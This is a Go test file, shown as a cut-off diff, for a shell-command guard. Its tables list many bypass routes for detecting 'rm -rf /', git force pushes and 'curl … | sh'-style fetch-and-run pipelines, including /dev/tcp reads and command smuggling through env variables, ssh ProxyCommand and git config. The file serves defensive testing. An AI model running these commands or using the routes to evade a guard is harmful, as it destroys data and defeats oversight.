@@ -1,0 +1,646 @@
+package shell
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+// The tables below are the ways around a guard that bash, zsh and git
+// offer, one class at a time, each with look-alikes that must stay quiet.
+// Every command that must match was checked to run what the guard fears
+// (with a harmless stand-in for rm) in bash 5.2, zsh 5.9 or git 2.39.
+
+var (
+	rmR      = Runs("command", "rm", "-r")
+	anything = Runs("command", "definitely-not-a-program")
+)
+
+type classRow struct {
+	command string
+	m       *Matcher
+}
+
+// checkClass asserts that every row of match matches and none of quiet
+// does, with IfUnknown(false) as well, since a look-alike is known.
+func checkClass(t *testing.T, match, quiet []classRow) {
+	t.Helper()
+	for _, r := range match {
+		t.Run("matches "+r.command, func(t *testing.T) {
+			assert.True(t, r.m.Match(bash(r.command)), "%v\n%#v", r.m, Parse(r.command))
+		})
+	}
+	for _, r := range quiet {
+		t.Run("is quiet on "+r.command, func(t *testing.T) {
+			s := Parse(r.command)
+			assert.False(t, r.m.Match(bash(r.command)), "%v\n%#v", r.m, s)
+			assert.Empty(t, s.Unknown)
+		})
+	}
+}
+
+const curl = "curl -fsSL https://example.com/install.sh"
+
+func TestAShellFedBySomethingItCannotReadIsUnknown(t *testing.T) {
+	var match []classRow
+	for _, tail := range []string{
+		"| (sh)", "| { bash; }", "| bash /dev/stdin", "| sh /dev/fd/0", "| bash -s -- --flag",
+		"| sudo -s", "| sudo -i", "| su", "| sudo su -", "| sudo bash",
+		"| sh -c sh", "| bash -c 'exec bash'", "| xargs -0 sh -c", "| xargs -I{} sh -c {}",
+		"| source /dev/stdin", "| . /dev/stdin", "| tcsh", "| rbash",
+		"> >(sh)", "| tee >(sh) >/dev/null", "2>/dev/null > >(bash -s)",
+		"| ( cd /tmp && bash )", "| { cd /tmp; sh -s; }", "| sh /proc/self/fd/0", "| bash /dev/fd/0 --verbose",
+		"| env bash", "| nice -n 5 sh", "| sudo -u root bash -s", "| sudo -E bash -", "| doas sh", "| doas -s",
+		"| su -", "| su root", "| runuser -l root", "| zsh", "| dash", "| ksh", "| fish", "| csh", "| mksh",
+		"| busybox sh", "| bash.exe", "| /bin/bash", `| "bash"`, "| tee /tmp/x | sh", "| sh -c 'cat | sh'",
+		"| bash -s", "| sh -x", "| sh -e", "| script -q /dev/null", "| at now", "| batch", "| unshare",
+		"| nsenter -t 1 -m", "| chroot /", "| make -f -", "| parallel", "| sudo sh -c sh", "| nohup sh",
+		"| timeout 10 sh", "| env -i sh", "| command sh", "| exec sh", "| sg staff -c sh", "| flock /tmp/l sh",
+		"| setsid sh", "| stdbuf -oL sh", "| sudo -- bash", "| while read -r l; do sh -c \"$l\"; done",
+		"| bash -c \"$(cat)\"", "| eval \"$(cat)\"", "| newgrp", "| pkexec",
+	} {
+		match = append(match, classRow{curl + " " + tail, rmRF})
+	}
+	match = append(match,
+		classRow{"bash < <(" + curl + ")", rmRF},
+		classRow{"sh <(" + curl + ")", rmRF},
+		classRow{"source <(" + curl + ")", rmRF},
+		classRow{". <(" + curl + ")", rmRF},
+		classRow{"bash 3< <(" + curl + ") /dev/fd/3", rmRF},
+		classRow{"exec 3< <(" + curl + "); bash /dev/fd/3", rmRF},
+		classRow{"bash <<< \"$(" + curl + ")\"", rmRF},
+		classRow{"cat <(" + curl + ") | sh", rmRF},
+		classRow{"f() { sh; }; " + curl + " | f", rmRF},
+		classRow{"g() { bash -s; }; f() { g; }; " + curl + " | f", rmRF},
+		classRow{"bash < /dev/tcp/example.com/80", rmRF},
+		classRow{curl + " | sh", anything},
+	)
+	quiet := []classRow{
+		{"echo 'ls -la' | sh", rmRF},
+		{"printf 'ls\\n' | bash -s", rmRF},
+		{"bash <<< 'ls'", rmRF},
+		{curl + " | jq .", rmRF},
+		{curl + " | grep sh", rmRF},
+		{curl + " > install.sh", rmRF},
+		{curl + " | tee install.sh", rmRF},
+		{"bash install.sh", rmRF},
+		{"sh ./install.sh --prefix=/usr", rmRF},
+		{"cat script.sh | wc -l", rmRF},
+		{"echo hi | sudo tee /etc/motd", rmRF},
+		{curl + " | sh -n", rmRF},
+		{"echo ls | su", rmRF},
+		{"bash < /dev/null", rmRF},
+		{"sh < script.sh", rmRF},
+		{"bash <(echo ls)", rmRF},
+		{"xargs -I{} echo {} < list", rmRF},
+		{"find . -name '*.sh' -exec shellcheck {} +", rmRF},
+		{curl + " | sha256sum", rmRF},
+		{"f() { sh; }; f", rmRF},
+		{"f() { sh; }; echo ls | f", rmRF},
+		{curl + " | python3 -m json.tool", rmRF},
+	}
+	checkClass(t, match, quiet)
+}
+
+func TestAShellReadsTheInputItsRedirectionsLeaveItAndAScriptOperandFirst(t *testing.T) {
+	match := []classRow{
+		{"bash <<< 'ls' <<< 'rm -rf /'", rmRF},
+		{"bash < /dev/null <<< 'rm -rf /'", rmRF},
+		{"bash 3<<<ls <<<'rm -rf /'", rmRF},
+		{"bash /dev/stdin <<< 'rm -rf /'", rmRF},
+		{". /dev/stdin <<< 'rm -rf /'", rmRF},
+		{"source /dev/stdin <<< 'rm -rf /'", rmRF},
+		{"bash /dev/fd/3 3<<< 'rm -rf /'", rmRF},
+		{"bash /dev/fd/3 3<<EOF\nrm -rf /\nEOF", rmRF},
+		{"sh 0<<< 'rm -rf /'", rmRF},
+		{"bash <<< 'rm -rf /' 2>/dev/null", rmRF},
+		{"bash < script.sh <<< 'rm -rf /'", rmRF},
+		{"bash <<EOF <<< 'rm -rf /'\nls\nEOF", rmRF},
+		{"bash <<< 'ls' <<EOF\nrm -rf /\nEOF", rmRF},
+		{"bash 3<<<'rm -rf /' 0<&3", rmRF},
+		{"bash 3<<<'rm -rf /' /proc/self/fd/3", rmRF},
+		{"bash -s <<< 'rm -rf /'", rmRF},
+		{"bash - <<< 'rm -rf /'", rmRF},
+		{"sh -e /dev/stdin <<< 'rm -rf /'", rmRF},
+		{"bash -- /dev/stdin <<< 'rm -rf /'", rmRF},
+		{"bash /dev/stdin < /dev/null <<< 'rm -rf /'", rmRF},
+		{"{ bash; } <<< 'rm -rf /'", rmRF},
+		{"(sh) <<< 'rm -rf /'", rmRF},
+		{"if true; then bash; fi <<< 'rm -rf /'", rmRF},
+		{"echo 'rm -rf /' | bash /dev/stdin", rmRF},
+		{"printf '%s\\n' 'rm -rf /' | sh", rmRF},
+		{"printf -- 'rm -rf /' | sh", rmRF},
+		{"echo -n 'rm -rf /' | sh", rmRF},
+		{"sudo bash <<< 'rm -rf /'", rmRF},
+		{"bash <(echo 'rm -rf /')", rmRF},
+		{"BASH_ENV=<(echo 'rm -rf /') bash -c true", rmRF},
+		{"cat <<< 'rm -rf /' | sh", rmRF},
+		{"bash 4<<<'rm -rf /' 3<&4 /dev/fd/3", rmRF},
+	}
+	quiet := []classRow{
+		{"bash <<< 'rm -rf /' < /dev/null", rmRF},
+		{"bash <<< 'rm -rf /' <<< 'ls'", rmRF},
+		{"bash 3<<< 'rm -rf /' <<< 'ls'", rmRF},
+		{"bash script.sh <<< 'rm -rf /'", rmRF},
+		{"bash -c 'ls' <<< 'rm -rf /'", rmRF},
+		{"cat <<< 'rm -rf /'", rmRF},
+		{"bash /dev/stdin 3<<< 'rm -rf /' <<< 'ls'", rmRF},
+		{"bash <<< 'rm -rf /' 0<&-", rmRF},
+		{"bash <<< 'rm -rf /' 0>/tmp/out", rmRF},
+		{"bash /dev/fd/3 3<<< 'ls' <<< 'rm -rf /'", rmRF},
+		{"sh -n <<< 'rm -rf /'", rmRF},
+		{"grep rm <<< 'rm -rf /'", rmRF},
+		{"bash 3<<<'rm -rf /' 0<&3 <<< ls", rmRF},
+		{"echo 'rm -rf /' | bash script.sh", rmRF},
+	}
+	checkClass(t, match, quiet)
+}
+
+func TestABraceExpansionTooLargeToExpandIsUnknownWhereverItStands(t *testing.T) {
+	const seven = "{,}{,}{,}{,}{,}{,}{,}"
+	const eleven = seven + "{,}{,}{,}{,}"
+	match := []classRow{
+		{"rm -r --force" + seven + " /x", rmRF},
+		{"git push --force" + seven + " origin main", forcePush},
+		{"rm -r --force" + eleven + " /x", rmRF},
+		{"git push --force" + eleven + " origin main", forcePush},
+		{"rm -r" + eleven + "f /x", rmRF},
+		{"rm -r{a,b}{c,d}{e,f}{g,h}{i,j}{k,l}{m,n}{o,p}{q,r}{s,t}{u,v} /x", rmRF},
+		{"sudo rm -r --force" + eleven + " /x", rmRF},
+		{"rm --rec" + eleven + "ursive -f /x", rmRF},
+		{"git push origin {+,}main" + eleven, forcePush},
+		{"bash -c 'rm -r --force" + eleven + " /x'", rmRF},
+		{"{rm,rm}" + eleven + " -rf /x", rmRF},
+		{"r{m,m}" + eleven + " -rf /x", rmRF},
+		{"echo " + eleven + "x", rmRF},
+		{"rm -rf " + eleven + "x", anything},
+	}
+	quiet := []classRow{
+		{"echo {a,b}{c,d}{e,f}", rmRF},
+		{"mkdir -p src/{a,b,c}/{x,y}", rmRF},
+		{"cp file{,.bak}", rmRF},
+		{"rm -f file{,.bak}", rmRF},
+		{"touch {1..200}.txt", rmRF},
+		{"git push origin {main,dev}", forcePush},
+		{"echo {a..z}", rmRF},
+		{"for i in {1..100000}; do echo $i; done", rmRF},
+	}
+	checkClass(t, match, quiet)
+}
+
+func TestWrappersAreReadWithTheirOwnGrammar(t *testing.T) {
+	match := []classRow{
+		{"sudo FOO=1 rm -rf /", rmRF},
+		{"sudo -u root LANG=C rm -rf /", rmRF},
+		{"env 1=x rm -rf /", rmRF},
+		{"env 'A B=1' rm -rf /", rmRF},
+		{"env -i -- PATH=/bin rm -rf /", rmRF},
+		{"env -S 'rm\\_-rf\\_/x'", rmRF},
+		{"env -S 'A=1 rm -rf /'", rmRF},
+		{"env -S'rm -rf /'", rmRF},
+		{"env --split-string='rm -rf /'", rmRF},
+		{"env -vS 'rm -rf /'", rmRF},
+		{"env -S 'rm\\_-rf' /x", rmRF},
+		{"env -S '-i rm -rf /'", rmRF},
+		{"env -u HOME -C /tmp rm -rf /", rmRF},
+		{"env --chdir=/ rm -rf /", rmRF},
+		{"env - rm -rf /", rmRF},
+		{"eval -- 'rm -rf /'", rmRF},
+		{"printf -- 'rm -rf /' | sh", rmRF},
+		{"bash -oc pipefail 'rm -rf /'", rmRF},
+		{"bash -Oc extglob 'rm -rf /'", rmRF},
+		{"bash -o pipefail -O extglob -c 'rm -rf /'", rmRF},
+		{"bash -xoc pipefail 'rm -rf /'", rmRF},
+		{"xargs -J % rm -rf % < list", rmRF},
+		{"doas -a style rm -rf /", rmRF},
+		{"doas -n -u root rm -rf /", rmRF},
+		{"flock /tmp/lock rm -rf /", rmRF},
+		{"flock -x /tmp/lock -c 'rm -rf /'", rmRF},
+		{"flock -w 5 /tmp/lock --command 'rm -rf /'", rmRF},
+		{"parallel rm -rf ::: /a /b", rmRF},
+		{"parallel 'rm -rf {}' ::: /a", rmRF},
+		{"parallel ::: 'rm -rf /'", rmRF},
+		{"parallel -j4 rm -rf < dirs", rmRF},
+		{"fd -x rm -rf", rmRF},
+		{"fd . /tmp -X rm -rf", rmRF},
+		{"fdfind -e log --exec rm -rf {}", rmRF},
+		{"pkexec rm -rf /", rmRF},
+		{"pkexec --user root rm -rf /", rmRF},
+		{"strace -f -o /dev/null rm -rf /", rmRF},
+		{"strace -e trace=file rm -rf /", rmRF},
+		{"ltrace -o x rm -rf /", rmRF},
+		{"setpriv --reuid=0 rm -rf /", rmRF},
+		{"setpriv --nnp rm -rf /", rmRF},
+		{"unshare -r rm -rf /", rmRF},
+		{"unshare --mount --fork rm -rf /", rmRF},
+		{"unshare -m rm -rf /", rmRF},
+		{"nsenter -t 1 -m -u rm -rf /", rmRF},
+		{"nsenter --target 1 --mount rm -rf /", rmRF},
+		{"chrt -f 10 rm -rf /", rmRF},
+		{"chrt -o 0 rm -rf /", rmRF},
+		{"taskset 0x1 rm -rf /", rmRF},
+		{"taskset -c 0 rm -rf /", rmRF},
+		{"prlimit --nofile=1024 rm -rf /", rmRF},
+		{"prlimit -n1024 rm -rf /", rmRF},
+		{"systemd-run --user rm -rf /x", rmRF},
+		{"systemd-run -p MemoryMax=1G --wait rm -rf /", rmRF},
+		{"systemd-run --unit x rm -rf /", rmRF},
+		{"tmux new-session -d 'rm -rf /'", rmRF},
+		{"tmux new -d -s x rm -rf /", rmRF},
+		{"tmux send-keys -t x 'rm -rf /' Enter", rmRF},
+		{"tmux send -t 0 'rm -rf /' C-m", rmRF},
+		{"tmux run-shell 'rm -rf /'", rmRF},
+		{"tmux split-window 'rm -rf /'", rmRF},
+		{"tmux new -d \\; send-keys 'rm -rf /' Enter", rmRF},
+		{"tmux -c 'rm -rf /'", rmRF},
+		{"screen -dmS x rm -rf /", rmRF},
+		{"screen -dm bash -c 'rm -rf /'", rmRF},
+		{"screen -S x -X stuff 'rm -rf /\n'", rmRF},
+		{"echo 'rm -rf /' | at now", rmRF},
+		{"at now <<< 'rm -rf /'", rmRF},
+		{"batch <<< 'rm -rf /'", rmRF},
+		{"at now + 1 minute <<EOF\nrm -rf /\nEOF", rmRF},
+		{"sg staff 'rm -rf /'", rmRF},
+		{"sg staff -c 'rm -rf /'", rmRF},
+		{"uv run rm -rf /", rmRF},
+		{"uv run --with requests rm -rf /", rmRF},
+		{"uv run -- rm -rf /", rmRF},
+		{"npx -c 'rm -rf /'", rmRF},
+		{"npx --yes -c 'rm -rf /'", rmRF},
+		{"npm exec -c 'rm -rf /'", rmRF},
+		{"pnpm exec rm -rf /", rmRF},
+		{"pnpm exec -c 'rm -rf /'", rmRF},
+		{"bunx --bun rm -rf /", rmRF},
+		{"poetry run rm -rf /", rmRF},
+		{"make -f - <<< $'x:\\n\\trm -rf /'", rmRF},
+		{"make -f /dev/stdin <<'EOF'\nall:\n\trm -rf /\nEOF", rmRF},
+		{"make --eval=$'x:\\n\\trm -rf /' x", rmRF},
+		{"nice -5 rm -rf /", rmRF},
+		{"nice --adjustment=5 rm -rf /", rmRF},
+		{"timeout --signal=KILL 5 rm -rf /", rmRF},
+		{"timeout -k5 10 rm -rf /", rmRF},
+		{"stdbuf -oL rm -rf /", rmRF},
+		{"ionice -c3 rm -rf /", rmRF},
+		{"chroot / rm -rf /", rmRF},
+		{"chroot --userspec=0:0 / rm -rf /", rmRF},
+		{"setsid -f rm -rf /", rmRF},
+		{"command -p rm -rf /", rmRF},
+		{"exec -a x rm -rf /", rmRF},
+		{"time -p rm -rf /", rmRF},
+		{"/usr/bin/time -f %e rm -rf /", rmRF},
+		{"caffeinate -i rm -rf /", rmRF},
+		{"unbuffer -p rm -rf /", rmRF},
+		{"watch -n1 -x rm -rf /", rmRF},
+		{"toybox rm -rf /", rmRF},
+		{"runuser -u root -- rm -rf /", rmRF},
+		{"su root -c 'rm -rf /'", rmRF},
+		{"su -c 'rm -rf /' - root", rmRF},
+		{"script -qc 'rm -rf /' /dev/null", rmRF},
+		{"script -q -c 'rm -rf /' /dev/null", rmRF},
+		{"sudo -s rm -rf /", rmRF},
+		{"sudo -i rm -rf /", rmRF},
+		{"sudo -H -u root -- rm -rf /", rmRF},
+		{"sudo --preserve-env=PATH rm -rf /", rmRF},
+		{"sudo -g wheel rm -rf /", rmRF},
+		{"sudo -k rm -rf /", rmRF},
+		{"xargs -r rm -rf < list", rmRF},
+		{"xargs -L1 rm -rf < list", rmRF},
+		{"xargs -i rm -rf {} < list", rmRF},
+		{`find / -ok rm -rf {} \;`, rmRF},
+		{"ssh -p 22 host -- rm -rf /", rmRF},
+		{"ssh host -l root rm -rf /", rmRF},
+		{"nix-shell -p hello --run 'rm -rf /'", rmRF},
+		{"nix develop -c rm -rf /", rmRF},
+		{"direnv exec . rm -rf /", rmRF},
+		{"conda run -n base rm -rf /", rmRF},
+	}
+	quiet := []classRow{
+		{"sudo -l rm -rf /", rmRF},
+		{"sudo -v", rmRF},
+		{"sudo -k", rmRF},
+		{"sudo -e /etc/hosts", rmRF},
+		{"sudoedit /etc/hosts", rmRF},
+		{"env -u rm ls -rf", rmRF},
+		{"env FOO=rm ls", rmRF},
+		{"env -S 'ls -la'", rmRF},
+		{"timeout 5 ls -rf", rmRF},
+		{"nice -n 5 ls", rmRF},
+		{"chrt -p 10 123", anyRm},
+		{"taskset -p 0x1 123", anyRm},
+		{"ionice -p 123", anyRm},
+		{"prlimit -p 123 --nofile=10", anyRm},
+		{"flock /tmp/lock ls", rmRF},
+		{"flock 9", anyRm},
+		{"flock /tmp/l -c 'ls'", rmRF},
+		{"parallel echo ::: rm -rf", rmRF},
+		{"parallel gzip ::: a b", rmRF},
+		{"fd -e rs -x wc -l", rmRF},
+		{"fd rm", anyRm},
+		{"strace -p 123", anyRm},
+		{"strace -c ls", rmRF},
+		{"setpriv --dump", anyRm},
+		{"unshare -r ls", rmRF},
+		{"nsenter -t 1 ls", rmRF},
+		{"systemd-run --user ls", rmRF},
+		{"tmux new -d 'htop'", rmRF},
+		{"tmux send-keys -t x 'ls' Enter", rmRF},
+		{"tmux ls", anyRm},
+		{"tmux kill-session -t x", anyRm},
+		{"screen -ls", anyRm},
+		{"screen -r x", anyRm},
+		{"at -l", anyRm},
+		{"at -f job.sh now", anyRm},
+		{"sg staff id", anyRm},
+		{"uv run pytest", anyRm},
+		{"uv run python -m build", anyRm},
+		{"uvx ruff check", anyRm},
+		{"npx prettier --write .", anyRm},
+		{"pnpm exec jest", anyRm},
+		{"bunx tsc", anyRm},
+		{"make -f Makefile build", anyRm},
+		{"make test", anyRm},
+		{"make -f - <<< $'x:\\n\\tls'", rmRF},
+		{"xargs -J % cp % /tmp < list", rmRF},
+		{"doas -a style ls", rmRF},
+		{"sudo FOO=rm ls", anyRm},
+		{"sudo -u rm ls", anyRm},
+		{"eval -- 'ls'", rmRF},
+		{"printf -- 'ls\\n' | sh", rmRF},
+		{"bash -oc pipefail 'ls'", rmRF},
+		{"bash -o pipefail -c 'ls | head'", rmRF},
+		{"pkexec ls", rmRF},
+		{"sudo -s ls", rmRF},
+		{"poetry run pytest", anyRm},
+		{"nix-shell -p hello --run hello", anyRm},
+	}
+	checkClass(t, match, quiet)
+}
+
+func TestZshAndOtherShellsAreRead(t *testing.T) {
+	match := []classRow{
+		{"=rm -rf /", rmRF},
+		{"noglob rm -rf /", rmRF},
+		{"nocorrect rm -rf /", rmRF},
+		{"repeat 3 rm -rf /", rmRF},
+		{"emulate sh -c 'rm -rf /'", rmRF},
+		{"emulate -L zsh -c 'rm -rf /'", rmRF},
+		{"zsh -c '=rm -rf /'", rmRF},
+		{"sudo =rm -rf /", rmRF},
+		{"csh -c 'rm -rf /'", rmRF},
+		{"tcsh -c 'rm -rf /'", rmRF},
+		{"rbash -c 'rm -rf /'", rmRF},
+		{"ksh93 -c 'rm -rf /'", rmRF},
+		{"fish -c 'rm -rf /'", rmRF},
+		{"fish --command='rm -rf /'", rmRF},
+		{"fish --command 'rm -rf /'", rmRF},
+		{"fish -C 'rm -rf /'", rmRF},
+		{"mksh -c 'rm -rf /'", rmRF},
+		{"yash -c 'rm -rf /'", rmRF},
+		{"posh -c 'rm -rf /'", rmRF},
+		{"busybox sh -c 'rm -rf /'", rmRF},
+		{"fish -c 'if true; rm -rf /; end'", rmRF},
+		{"csh -c 'foreach f (*)\nrm -rf $f\nend'", rmRF},
+		{"rm.exe -rf /c/Users", rmRF},
+		{"git.exe push -f", forcePush},
+		{"RM.EXE -rf /", rmRF},
+		{"/c/Windows/rm.exe -rf /", rmRF},
+		{"bash.exe -c 'rm -rf /'", rmRF},
+		{"sudo rm.exe -rf /", rmRF},
+		{"zsh -ic 'rm -rf /'", rmRF},
+	}
+	quiet := []classRow{
+		{"fish -c 'ls'", rmRF},
+		{"csh -c 'echo hi'", rmRF},
+		{"zsh -n -c 'rm -rf /'", rmRF},
+		{"fish -n -c 'rm -rf /'", rmRF},
+		{"fish --no-execute -c 'rm -rf /'", rmRF},
+		{"emulate zsh", rmRF},
+		{"repeat 3 echo hi", rmRF},
+		{"noglob ls *", rmRF},
+		{"=ls -la", rmRF},
+		{"rm.exe -f file", rmRF},
+		{"git.exe push origin main", forcePush},
+		{"echo =rm", anyRm},
+		{"zsh -o noexec -c 'rm -rf /'", rmRF},
+	}
+	checkClass(t, match, quiet)
+}
+
+func TestNamesTheCommandLineBindsAreFollowedOrUnknown(t *testing.T) {
+	match := []classRow{
+		{"shopt -s expand_aliases; alias r=rm; r -rf /", rmRF},
+		{"alias r='rm -r'; r -f /x", rmRF},
+		{"alias r='sudo rm'\nr -rf /", rmRF},
+		{"BASH_CMDS[x]=/bin/rm; x -rf /", rmRF},
+		{"BASH_CMDS=([x]=/bin/rm); x -rf /", rmRF},
+		{"hash -p /bin/rm x; x -rf /", rmRF},
+		{"mapfile -C 'rm -rf / #' -c 1 <<< a", rmRF},
+		{"readarray -C 'rm -rf / #' -c 1 <<< a", rmRF},
+		{`find /usr/bin -name rm -exec {} -rf /x \;`, rmRF},
+		{`find . -exec sh -c {} \;`, rmRF},
+		{"xargs -I{} {} -rf /x < list", rmRF},
+		{`hash -p "$P" x; x -rf /`, rmRF},
+		{`alias r="$CMD"; r /`, rmRF},
+		{"fd -x {} -rf", rmRF},
+		{"r -rf /; alias r=rm", rmRF},
+		{"enable -f /tmp/x.so rm", rmRF},
+		{`BASH_CMDS["$k"]=/bin/rm; x -rf /`, rmRF},
+		{"x -rf /; hash -p /bin/rm x", rmRF},
+	}
+	quiet := []classRow{
+		{"alias ll='ls -la'; ll", rmRF},
+		{"alias gs='git status'", rmRF},
+		{"hash -r", rmRF},
+		{"hash ls", rmRF},
+		{"mapfile -t lines < file", rmRF},
+		{"find . -name '*.go' -exec gofmt -l {} +", rmRF},
+		{"BASH_CMDS[x]=/bin/ls; x -la", rmRF},
+		{"f() { ls; }; f", rmRF},
+		{"alias r=rm", rmRF},
+	}
+	checkClass(t, match, quiet)
+}
+
+func TestStringsBashEvaluatesAreRead(t *testing.T) {
+	match := []classRow{
+		{"declare -a 'a=($(rm -rf /))'", rmRF},
+		{"typeset -a 'a=($(rm -rf /))'", rmRF},
+		{"x='a[$(rm -rf /)]'; echo $((x))", rmRF},
+		{`x='a[$(rm -rf /)]'; test -v "$x"`, rmRF},
+		{"test -v 'a[$(rm -rf /)]'", rmRF},
+		{"[ -v 'a[$(rm -rf /)]' ]", rmRF},
+		{"[[ -v 'a[$(rm -rf /)]' ]]", rmRF},
+		{"printf -v 'a[$(rm -rf /)]' x", rmRF},
+		{"let 'a[$(rm -rf /)]'", rmRF},
+		{"x='a[$(rm -rf /)]'; let x", rmRF},
+		{"x='a[$(rm -rf /)]'; echo ${!x}", rmRF},
+		{"declare -n r='a[$(rm -rf /)]'", rmRF},
+		{`x='$(rm -rf /)'; echo "${x@P}"`, rmRF},
+		{"PS4='$(rm -rf /)'; set -x", rmRF},
+		{"PS1='$(rm -rf /)' bash -i", rmRF},
+		{"BASH_ENV=<(echo 'rm -rf /') bash -c true", rmRF},
+		{"BASH_ENV=<(" + curl + ") bash -c true", rmRF},
+		{"ENV=<(" + curl + ") sh -i", rmRF},
+		{"PROMPT_COMMAND='rm -rf /' bash -i", rmRF},
+		{"export PROMPT_COMMAND='rm -rf /'", rmRF},
+		{"unset 'a[$(rm -rf /)]'", rmRF},
+		{"[[ 'a[$(rm -rf /)]' -eq 0 ]]", rmRF},
+		{"q='a[$(rm -rf /)]'; [[ $q -eq 0 ]]", rmRF},
+		{"f() { local x='$(rm -rf /)'; echo \"${x@P}\"; }", rmRF},
+		{`read x <<< '$(rm -rf /)'; echo "${x@P}"`, rmRF},
+		{`printf -v x '%s' '$(rm -rf /)'; echo "${x@P}"`, rmRF},
+		{"GIT_SSH_COMMAND='rm -rf ~' git fetch", rmRF},
+		{"EDITOR='rm -rf ~' git commit", rmRF},
+		{"LESSOPEN='|rm -rf ~ %s' less x", rmRF},
+		{"export x='`rm -rf /`'", rmRF},
+		{"a=(1 '$(rm -rf /)')", rmRF},
+		{`GIT_SSH_COMMAND="$CMD" git fetch`, rmRF},
+	}
+	quiet := []classRow{
+		{"x='hello'; echo $((x))", rmRF},
+		{"declare -a a=(1 2 3)", rmRF},
+		{"declare -A m=([k]=v)", rmRF},
+		{"PS4='+ '; set -x", rmRF},
+		{"export PATH=/usr/bin:$PATH", rmRF},
+		{"f() { local x=1; }", rmRF},
+		{"test -v HOME", rmRF},
+		{"printf -v x '%s' hi", rmRF},
+		{"let x=1+2", rmRF},
+		{"x='a[1]'; echo $((x))", rmRF},
+		{"BASH_ENV=/etc/profile bash -c true", rmRF},
+		{"EDITOR=vim git commit", rmRF},
+		{"GIT_SSH_COMMAND='ssh -i key' git fetch", rmRF},
+		{"PROMPT_COMMAND='history -a'", rmRF},
+		{"echo '$(rm -rf /)'", rmRF},
+		{"git commit -m 'fix $(rm -rf /) quoting'", rmRF},
+	}
+	checkClass(t, match, quiet)
+}
+
+func TestAForcePushByAnotherRouteIsCaught(t *testing.T) {
+	match := []classRow{
+		{"git -c remote.origin.push=+main:main push origin", forcePush},
+		{"git -c remote.origin.push=+HEAD:refs/heads/main push", forcePush},
+		{"git config remote.origin.push +HEAD:refs/heads/main && git push", forcePush},
+		{"git config --local remote.origin.push '+refs/heads/*:refs/heads/*'; git push origin", forcePush},
+		{"git config set remote.origin.push +main:main && git push", forcePush},
+		{"git -c remote.origin.mirror=true push origin", forcePush},
+		{"git config remote.origin.mirror true; git push origin", forcePush},
+		{"git remote add --mirror=push backup https://example.com/r.git && git push backup", forcePush},
+		{"git -c help.autocorrect=immediate psuh -f origin main", forcePush},
+		{"git config help.autocorrect 1 && git psuh -f origin main", forcePush},
+		{"git -c alias.p='push -f' p origin main", forcePush},
+		{"git config alias.p 'push --force' && git p", forcePush},
+		{"git -c alias.pf='!git push -f' pf", forcePush},
+		{"/usr/lib/git-core/git-push -f origin main", forcePush},
+		{"git-push --force origin main", forcePush},
+		{"git send-pack --force origin main", forcePush},
+		{"git send-pack --all --force ../remote.git", forcePush},
+		{"/usr/libexec/git-core/git-send-pack --force x main", forcePush},
+		{"git push --mirror", forcePush},
+		{"git push origin --force", forcePush},
+		{"git push origin main -f", forcePush},
+		{"git push --force-with-lease=main:abc origin main", forcePush},
+		{`GIT_CONFIG_PARAMETERS="'remote.origin.push'='+main:main'" git push origin`, forcePush},
+		{"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.push GIT_CONFIG_VALUE_0=+main:main git push", forcePush},
+		{"git -C repo -c remote.origin.push=+main:main push", forcePush},
+		{"git -c Remote.Origin.Push=+main:main push", forcePush},
+		{"sudo -u git git push -f", forcePush},
+		{"ssh -o ProxyCommand='rm -rf ~' host", rmRF},
+		{"ssh -oProxyCommand='rm -rf ~' host", rmRF},
+		{"ssh -o 'ProxyCommand rm -rf ~' host", rmRF},
+		{"scp -o ProxyCommand='rm -rf ~' a host:b", rmRF},
+		{"ssh -o LocalCommand='rm -rf ~' -o PermitLocalCommand=yes host", rmRF},
+		{"git -c core.sshCommand='rm -rf ~' fetch", rmRF},
+		{"rsync -e 'rm -rf ~' a host:b", rmRF},
+		{"git fetch 'ext::sh -c rm% -rf% ~'", rmRF},
+		{"git -c credential.helper='!rm -rf ~' fetch", rmRF},
+	}
+	quiet := []classRow{
+		{"git push", forcePush},
+		{"git push origin main", forcePush},
+		{"git -c push.default=current push", forcePush},
+		{"git config user.name x && git push", forcePush},
+		{"git config remote.origin.push refs/heads/main && git push", forcePush},
+		{"git -c alias.p=status p", forcePush},
+		{"git send-pack origin main", forcePush},
+		{"git-push origin main", forcePush},
+		{"git -c help.autocorrect=immediate status", forcePush},
+		{"git config alias.p 'push -f'", forcePush},
+		{"git stash push -m x", forcePush},
+		{"ssh -o ProxyCommand=none host", rmRF},
+		{"ssh -o ProxyCommand='ssh -W %h:%p bastion' host", rmRF},
+		{"git -c core.sshCommand='ssh -i key' fetch", rmRF},
+		{"rsync -avz -e ssh a host:b", rmRF},
+	}
+	checkClass(t, match, quiet)
+}
+
+func TestWordsThatCannotBeWhatTheGuardFearsStayQuiet(t *testing.T) {
+	match := []classRow{
+		{`git push origin "$BRANCH"`, forcePush},
+		{"git push $FLAGS origin main", forcePush},
+		{"rm -f $HOME/.cache/x", rmRF},
+		{`rm -f "$X"`, rmRF},
+		{"git push -n -f", forcePush},
+		{`"$HOME/bin/rm" -rf /`, rmRF},
+		{`"$X" -rf /`, rmRF},
+		{"$HOME/.local/bin/rm -rf /", rmRF},
+		{`git push "$(git branch --show-current)" --force`, forcePush},
+		{"cat <<EOF\n$(rm -rf /)", rmRF},
+		{"bash <<EOF\nrm -rf /", rmRF},
+		{`rm -f -"$X" /`, rmRF},
+		{`git push origin "$X"main`, forcePush},
+		{`rm "$X"/x -- /`, anyRm},
+		{`git push origin "${REF}.json"`, forcePush},
+	}
+	quiet := []classRow{
+		{`git stash push -m "$msg"`, forcePush},
+		{`git -C "$repo" push origin main`, forcePush},
+		{`git -C "$repo" push -u origin main`, forcePush},
+		{`git commit -m "$msg" && git push origin main`, forcePush},
+		{`git push -o "$opt" origin main`, forcePush},
+		{`git push --push-option "$opt" origin main`, forcePush},
+		{`git stash push -m "$msg" -- "$file"`, forcePush},
+		{`rm -f "$HOME/.cache/app.lock"`, rmRF},
+		{`rm -f "${tmp}.json"`, rmRF},
+		{`rm -f "$dir/file"`, rmRF},
+		{`rm -f "${TMPDIR}/x.$$"`, rmRF},
+		{`rm -f "$tmpdir"/out.txt`, rmRF},
+		{`rm -f "$(mktemp -d)/x"`, rmRF},
+		{"cat <<EOF\nhello\nrm -rf /", rmRF},
+		{"cat > f <<'EOF'\nrm -rf /\n", rmRF},
+		{"sh -n -c 'rm -rf /'", rmRF},
+		{"bash -n script.sh", rmRF},
+		{"bash -n -c 'rm -rf /'", rmRF},
+		{"dash -nc 'rm -rf /'", rmRF},
